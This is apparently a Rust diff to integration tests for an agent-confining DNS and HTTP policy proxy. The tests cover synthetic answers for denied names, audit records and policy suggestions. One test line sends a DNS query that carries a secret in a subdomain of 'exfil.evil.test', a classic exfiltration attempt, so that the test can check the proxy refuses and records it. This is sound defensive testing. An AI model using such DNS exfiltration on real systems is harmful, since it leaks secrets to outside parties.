@@ -76,12 +76,30 @@ impl Drop for Resolver {
 /// given both uids.
 type Second = fn(u32, u32) -> String;
 
+/// What a lab runs with besides the defaults.
+#[derive(Default)]
+struct Setup {
+    second: Option<Second>,
+    /// The policy (default: [`POLICY`]).
+    policy: Option<&'static str>,
+    /// `[dns]` lines.
+    dns: Vec<String>,
+}
+
 impl Lab {
     fn new() -> Lab {
-        Lab::with(None)
+        Lab::build(Setup::default())
     }
 
     fn with(second: Option<Second>) -> Lab {
+        Lab::build(Setup {
+            second,
+            ..Setup::default()
+        })
+    }
+
+    fn build(setup: Setup) -> Lab {
+        let second = setup.second;
         let tag = std::process::id() % 97 + 3;
         let user = AgentUser::create(tag);
         let other = second.map(|_| AgentUser::create(tag + 100));
@@ -139,7 +157,7 @@ impl Lab {
 
         let policy = match (second, &other) {
             (Some(text), Some(o)) => text(user.uid, o.uid),
-            _ => POLICY.to_string(),
+            _ => setup.policy.unwrap_or(POLICY).to_string(),
         };
         let daemon = Daemon::start(DaemonOptions {
             policies: vec![("main.toml".into(), policy)],
@@ -150,6 +168,7 @@ impl Lab {
             redirect_uid: Some(user.uid),
             agent_uids: other.iter().map(|o| o.uid).collect(),
             approvals_timeout: Some("1s".into()),
+            dns: setup.dns,
             ..Default::default()
         });
         let lab = Lab {
@@ -205,6 +224,14 @@ impl Lab {
         (status, text)
     }
 
+    /// The daemon's CA where the agent can read it (for `curl --cacert`).
+    fn agent_ca(&self) -> std::path::PathBuf {
+        let ca = self.share.path().join("agenshield-ca.pem");
+        std::fs::copy(&self.daemon.ca_path, &ca).expect("copy CA");
+        std::fs::set_permissions(&ca, std::fs::Permissions::from_mode(0o644)).expect("chmod");
+        ca
+    }
+
     fn dns_records(&self) -> Vec<Value> {
         lines(&self.daemon.audit_path())
             .into_iter()
@@ -220,6 +247,14 @@ impl Drop for Lab {
             .args(["delete", "table", "inet", "agenshield"])
             .output();
     }
+}
+
+/// Whether `text` (trimmed) is one address in the synthetic range, 198.18.0.0/15.
+fn is_synthetic(text: &str) -> bool {
+    let first = text.split_whitespace().next().unwrap_or("");
+    first
+        .parse::<std::net::Ipv4Addr>()
+        .is_ok_and(|ip| ip.octets()[..2] == [198, 18] || ip.octets()[..2] == [198, 19])
 }
 
 fn shell_quote(s: &str) -> String {
@@ -278,11 +313,16 @@ fn the_agent_resolves_only_what_policy_allows_and_raw_tcp_is_decided_by_name() {
         lab.resolver.queries()
     );
 
-    // An unlisted name: NXDOMAIN, answered locally; the resolver never hears of it.
+    // An unlisted name: a synthetic address, answered locally (the connection that follows
+    // is refused with a reason); the resolver never hears of it.
     let (status, out) = lab.dig(&format!("@{b4} unlisted.test A"));
-    assert_eq!(status, "NXDOMAIN", "{out}");
+    assert_eq!(status, "NOERROR", "{out}");
+    assert!(
+        out.contains("EDE: 15 (Blocked): (no rule allows unlisted.test)"),
+        "{out}"
+    );
     let out = lab.agent("getent hosts unlisted.test");
-    assert!(!out.status.success(), "{}", text(&out));
+    assert!(is_synthetic(&text(&out)), "{}", text(&out));
     // A secret's value in a name (a classic exfiltration): refused, recorded, never sent.
     let (status, out) = lab.dig(&format!("@{b4} {SECRET}.exfil.evil.test TXT"));
     assert_eq!(status, "REFUSED", "{out}");
@@ -355,9 +395,13 @@ fn the_agent_resolves_only_what_policy_allows_and_raw_tcp_is_decided_by_name() {
     assert_eq!(ok["rule"], "web");
     assert_eq!(ok["agent_uid"], lab.user.uid);
     assert_eq!(ok["dns"]["answers"][0], a4.to_string());
-    let nx = find("unlisted.test", "NXDOMAIN");
+    let nx = find("unlisted.test", "NOERROR");
     assert_eq!(nx["decision"], "deny");
     assert_eq!(nx["error_code"], "policy_denied");
+    assert!(
+        is_synthetic(nx["dns"]["answers"][0].as_str().unwrap_or("")),
+        "{nx}"
+    );
     let leak = find("exfil.evil.test", "REFUSED");
     assert_eq!(leak["error_code"], "secret_leak");
     let forbidden = find("internal.test", "REFUSED");
@@ -385,8 +429,7 @@ fn the_agent_resolves_only_what_policy_allows_and_raw_tcp_is_decided_by_name() {
     // Metrics count every question, recorded or not.
     let metrics = reqwest_metrics(lab.daemon.metrics);
     assert!(
-        metrics
-            .contains("agenshield_proxy_dns_queries_total{decision=\"deny\",rcode=\"NXDOMAIN\"}"),
+        metrics.contains("agenshield_proxy_dns_queries_total{decision=\"deny\",rcode=\"NOERROR\"}"),
         "{metrics}"
     );
 }
@@ -423,9 +466,11 @@ action = "ask"
     let b4 = lab.net.b4;
     lab.net.assert_route(b4);
 
-    // Agent A asks for a name only B's rule allows: NXDOMAIN, and the resolver never hears.
-    let (status, out) = lab.dig(&format!("@{b4} bonly.test A"));
-    assert_eq!(status, "NXDOMAIN", "{out}");
+    // Agent A asks for a name only B's rule allows: refused (a synthetic address, not the
+    // name's), and the resolver never hears.
+    let (status, out) = lab.dig(&format!("@{b4} +short bonly.test A"));
+    assert_eq!(status, "(no answer)", "{out}");
+    assert!(is_synthetic(&out), "{out}");
     assert!(
         !lab.resolver.queries().contains("bonly.test"),
         "{}",
@@ -453,9 +498,7 @@ action = "ask"
     // The agent connects by name: the connection to the synthetic address comes back to
     // the proxy, which asks an operator; none answers within the timeout: refused, naming
     // the rule.
-    let ca = lab.share.path().join("agenshield-ca.pem");
-    std::fs::copy(&lab.daemon.ca_path, &ca).expect("copy CA");
-    std::fs::set_permissions(&ca, std::fs::Permissions::from_mode(0o644)).expect("chmod");
+    let ca = lab.agent_ca();
     let out = lab.agent(&format!(
         "curl -s --max-time 20 --cacert {} https://held.test/",
         ca.display()
@@ -490,6 +533,176 @@ action = "ask"
         dst,
         format!("{synthetic}:443"),
         "one address per name: {req}"
+    );
+}
+
+/// A policy with a default deny and an explicit deny rule.
+const DENY_POLICY: &str = r#"
+version = 1
+default = "deny"
+
+[[rule]]
+id = "web"
+hosts = ["allowed.test"]
+schemes = ["https"]
+action = "allow"
+
+[[rule]]
+id = "no-paste"
+hosts = ["paste.test"]
+action = "deny"
+"#;
+
+/// A name no rule allows is answered (without asking any resolver) with a synthetic address,
+/// so the agent's curl connects, comes back through the redirect and gets the JSON 403 that
+/// names the rule, instead of "Could not resolve host". The DNS refusal and the request's
+/// refusal are both recorded, and `ctl policy suggest` drafts from the DNS refusals too:
+/// one rule per host, none for what an explicit deny refused.
+#[test]
+fn a_denied_name_is_answered_so_that_its_connection_is_refused_naming_the_rule() {
+    let Some(_serial) = root_or_skip("dns_denied_synthetic") else {
+        return;
+    };
+    let lab = Lab::build(Setup {
+        policy: Some(DENY_POLICY),
+        ..Setup::default()
+    });
+    let b4 = lab.net.b4;
+    lab.net.assert_route(b4);
+    let ca = lab.agent_ca();
+    let refusal = |url: &str| -> Value {
+        let out = lab.agent(&format!(
+            "curl -s --max-time 15 --cacert {} {url}",
+            ca.display()
+        ));
+        let body = String::from_utf8_lossy(&out.stdout).to_string();
+        serde_json::from_str(&body)
+            .unwrap_or_else(|_| panic!("a JSON refusal for {url}: {}", text(&out)))
+    };
+    let v = refusal("https://denied.test/");
+    assert_eq!(v["error_code"], "policy_denied", "{v}");
+    assert_eq!(v["rule_id"], "default", "{v}");
+    assert!(
+        v["message"].as_str().unwrap_or("").contains("denied.test"),
+        "{v}"
+    );
+    let v = refusal("https://paste.test/upload");
+    assert_eq!(v["rule_id"], "no-paste", "{v}");
+    let v = refusal("http://denied.test/plain");
+    assert_eq!(v["error_code"], "policy_denied", "{v}");
+    // A name only looked up.
+    let out = lab.agent("getent hosts lookedup.test");
+    assert!(is_synthetic(&text(&out)), "{}", text(&out));
+    // dig says why, and an AAAA question gets an empty answer (as for `ask` names).
+    let (status, out) = lab.dig(&format!("@{b4} paste.test A"));
+    assert_eq!(status, "NOERROR", "{out}");
+    assert!(
+        out.contains("EDE: 15 (Blocked): (denied by rule no-paste)"),
+        "{out}"
+    );
+    let (status, out) = lab.dig(&format!("@{b4} denied.test AAAA"));
+    assert_eq!(status, "NOERROR", "{out}");
+    assert!(!out.contains("AAAA\t"), "no IPv6 answer: {out}");
+    let queries = lab.resolver.queries();
+    for name in ["denied.test", "paste.test", "lookedup.test"] {
+        assert!(
+            !queries.contains(name),
+            "the resolver saw {name}:\n{queries}"
+        );
+    }
+
+    // Both decisions recorded: the DNS refusal (with the address it answered) and the
+    // refusal of the connection to that address.
+    let audit = lines(&lab.daemon.audit_path());
+    assert_matches_schema(&audit);
+    for (host, rule) in [("denied.test", "default"), ("paste.test", "no-paste")] {
+        let q = audit
+            .iter()
+            .find(|v| v["kind"] == "query" && v["host"] == host && v["dns"]["qtype"] == "A")
+            .unwrap_or_else(|| panic!("no A query record for {host}: {audit:#?}"));
+        assert_eq!(q["decision"], "deny", "{q}");
+        assert_eq!(q["error_code"], "policy_denied", "{q}");
+        assert_eq!(q["rule"], rule, "{q}");
+        assert_eq!(q["dns"]["rcode"], "NOERROR", "{q}");
+        assert_eq!(q["agent_uid"], lab.user.uid, "{q}");
+        let addr = q["dns"]["answers"][0].as_str().unwrap_or("").to_string();
+        assert!(is_synthetic(&addr), "{q}");
+        let req = audit
+            .iter()
+            .find(|v| v["kind"] == "request" && v["host"] == host && v["protocol"] == "https")
+            .unwrap_or_else(|| panic!("no request record for {host}: {audit:#?}"));
+        assert_eq!(req["decision"], "deny", "{req}");
+        assert_eq!(req["rule"], rule, "{req}");
+        assert_eq!(req["status"], 403, "{req}");
+        assert_eq!(req["dst"], format!("{addr}:443"), "{req}");
+        assert_eq!(req["agent_uid"], lab.user.uid, "{req}");
+    }
+
+    // suggest drafts from DNS refusals too: one rule per host whether it was refused as a
+    // name, a request or both; nothing for what an explicit deny refused.
+    let (code, draft, err) = lab.daemon.ctl(&[], &["policy", "suggest"]);
+    assert_eq!(code, 0, "{draft}{err}");
+    assert_eq!(
+        draft.matches("hosts = [\"denied.test\"]").count(),
+        1,
+        "{draft}"
+    );
+    assert!(draft.contains("hosts = [\"lookedup.test\"]"), "{draft}");
+    assert!(!draft.contains("hosts = [\"paste.test\"]"), "{draft}");
+    assert!(
+        draft
+            .lines()
+            .any(|l| l.starts_with('#') && l.contains("paste.test") && l.contains("no-paste")),
+        "the explicit deny is named: {draft}"
+    );
+}
+
+/// `dns.denied = "nxdomain"`: a name no rule allows is NXDOMAIN, still answered locally, with
+/// an Extended DNS Error (RFC 8914, 15 Blocked) naming the rule for clients that send EDNS.
+#[test]
+fn dns_denied_nxdomain_answers_nxdomain_with_an_extended_dns_error() {
+    let Some(_serial) = root_or_skip("dns_denied_nxdomain") else {
+        return;
+    };
+    let lab = Lab::build(Setup {
+        policy: Some(DENY_POLICY),
+        dns: vec!["denied = \"nxdomain\"".into()],
+        ..Setup::default()
+    });
+    let b4 = lab.net.b4;
+    lab.net.assert_route(b4);
+    let (status, out) = lab.dig(&format!("@{b4} denied.test A"));
+    assert_eq!(status, "NXDOMAIN", "{out}");
+    assert!(
+        out.contains("EDE: 15 (Blocked): (no rule allows denied.test)"),
+        "{out}"
+    );
+    let (status, out) = lab.dig(&format!("@{b4} +tcp paste.test A"));
+    assert_eq!(status, "NXDOMAIN", "{out}");
+    assert!(
+        out.contains("EDE: 15 (Blocked): (denied by rule no-paste)"),
+        "{out}"
+    );
+    // Without EDNS in the query there is nowhere to put it.
+    let (status, out) = lab.dig(&format!("@{b4} +noedns denied.test A"));
+    assert_eq!(status, "NXDOMAIN", "{out}");
+    assert!(!out.contains("EDE"), "{out}");
+    // The agent's tools fail the lookup, as before.
+    let out = lab.agent("curl -s --max-time 10 https://denied.test/; echo exit=$?");
+    assert!(text(&out).contains("exit=6"), "{}", text(&out));
+    let queries = lab.resolver.queries();
+    assert!(!queries.contains("denied.test"), "{queries}");
+    let dns = lab.dns_records();
+    let q = dns
+        .iter()
+        .find(|v| v["host"] == "paste.test")
+        .unwrap_or_else(|| panic!("{dns:#?}"));
+    assert_eq!(q["dns"]["rcode"], "NXDOMAIN", "{q}");
+    assert_eq!(q["decision"], "deny", "{q}");
+    assert_eq!(q["rule"], "no-paste", "{q}");
+    assert!(
+        q["dns"]["answers"].as_array().is_some_and(|a| a.is_empty()),
+        "{q}"
     );
 }
 
